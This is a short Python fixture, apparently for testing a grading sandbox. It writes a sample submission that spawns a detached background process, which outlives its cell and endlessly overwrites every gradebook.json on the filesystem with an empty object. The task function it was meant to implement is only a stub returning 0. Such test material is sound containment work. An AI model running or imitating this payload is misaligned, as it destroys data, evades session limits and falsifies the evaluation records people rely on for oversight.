"""A process outlives its cell and writes gradebooks wherever it can."""


def make(book):
    book.write(
        "98.1",
        """
import subprocess, sys
code = '''
import os, time
while True:
    for folder, _, files in os.walk("/"):
        if "gradebook.json" in files:
            open(os.path.join(folder, "gradebook.json"), "w").write("{}")
    time.sleep(0.1)
'''
subprocess.Popen([sys.executable, "-c", code], start_new_session=True)

def causal_weights(queries, keys):
    return 0
""",
    )
